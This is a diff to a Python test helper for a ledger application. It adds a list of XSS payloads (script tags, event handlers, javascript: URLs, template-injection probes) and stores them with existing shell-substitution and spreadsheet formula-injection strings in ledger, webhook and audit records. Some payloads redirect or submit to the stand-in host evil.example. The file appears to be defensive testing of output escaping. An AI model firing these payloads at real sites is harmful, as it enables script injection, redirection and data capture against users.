@@ -73,6 +73,34 @@ FORMATS = ("%s%n%x", "{0.__class__}", "{task.fields[title]}", "$(id) `id` ${HOME
 FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)")
 STORED = (*MARKUP, *ANSI, *OSC, *BIDI, *UNSEEN, *LINES, *BYTES, *LONG, *COMBINED, *FORMATS, *FORMULAS)
 """Texts that the ledger can hold."""
+WEB = (
+    "<script>window.hit=1</script>",
+    "</script><script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<svg/onload=window.hit=1>",
+    "<svg><script>window.hit=1</script></svg>",
+    "</title><script>window.hit=1</script>",
+    "</textarea><script>window.hit=1</script>",
+    "</style><script>window.hit=1</script>",
+    "<!--<script>window.hit=1</script>-->",
+    "]]><script>window.hit=1</script>",
+    '"><script>window.hit=1</script>',
+    "'><script>window.hit=1</script>",
+    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
+    "' onfocus='window.hit=1' autofocus='",
+    "javascript:window.hit=1",
+    "data:text/html,<script>window.hit=1</script>",
+    "<a href=javascript:window.hit=1>x</a>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input name=proof>",
+    "<style>*{display:none}</style>",
+    "{{7*7}}${7*7}<%=7*7%>",
+    "&lt;script&gt;&#x3c;script&#x3e;",
+    "data: x\nevent: state\n\n",
+)
+"""Texts that a browser could obey."""
 BROKEN = ("caf\udce9", "\udcff\udcfe", "\ud800")
 """Arguments whose bytes are not UTF-8, as Python gives them to a program."""
 RAW = re.compile(
@@ -89,21 +117,21 @@ def golden(form: str, **other: Any) -> Any:
     return msgspec.structs.replace(event, **other)
 
 
-def fill_with_hostile_texts(home: Path, source: str) -> None:
+def fill_with_hostile_texts(home: Path, source: str, texts: tuple[str, ...] = STORED) -> None:
     """Append what an earlier release might have accepted: each text as a name, a reason or an error."""
     settings = Settings.read(str(home), source)
     product = Container(settings=msgspec.structs.replace(settings, actor=STORED[0]))
     ledger = product.use_cases().ledger()
-    for number, text in enumerate(STORED):
+    for number, text in enumerate(texts):
         for stream, events in _streams(number, text):
             ledger.append(stream, 0, events)
         _append_webhook(product, f"01j1f00000000000000000{number:04d}", text)
         at = "2024-05-02T12:00:00.000+00:00"
         entry = AuditEntry(act=text, at=at, subject=text, client=text, address=text, trace=text)
         product.adapters().audit_trail().add(entry)
-    _append_prices(ledger)
-    _append_versions(ledger)
-    _append(ledger, "settings", [golden("settings.changed.v1", by=text, reason=text) for text in STORED])
+    _append_prices(ledger, texts)
+    _append_versions(ledger, texts)
+    _append(ledger, "settings", [golden("settings.changed.v1", by=text, reason=text) for text in texts])
 
 
 def _streams(number: int, text: str) -> Iterator[tuple[str, list[Any]]]:
@@ -133,16 +161,16 @@ def _append_webhook(product: Container, webhook: str, text: str) -> None:
     product.use_cases().ledger().append(f"webhooks-{webhook}", 0, events)
 
 
-def _append_prices(ledger: Ledger) -> None:
+def _append_prices(ledger: Ledger, texts: tuple[str, ...]) -> None:
     vale = Ticker.parse("VALE3")
-    held = [golden("prices.held.v1", held=n, source=t, message=t) for n, t in enumerate(STORED, start=1)]
-    decided = [golden("prices.session-decided.v1", by=text, reason=text) for text in STORED]
+    held = [golden("prices.held.v1", held=n, source=t, message=t) for n, t in enumerate(texts, start=1)]
+    decided = [golden("prices.session-decided.v1", by=text, reason=text) for text in texts]
     _append(ledger, ticker_stream(vale), [*held, *decided])
 
 
-def _append_versions(ledger: Ledger) -> None:
+def _append_versions(ledger: Ledger, texts: tuple[str, ...]) -> None:
     events: list[Any] = []
-    for number, text in enumerate(STORED, start=1):
+    for number, text in enumerate(texts, start=1):
         model = f"VALE3-fortnight-{number}"
         words = {"strategy": text, "settings": {text: text}, "code_version": text, "data": text}
         events.append(golden("model.registered.v1+data", model=model, **words))
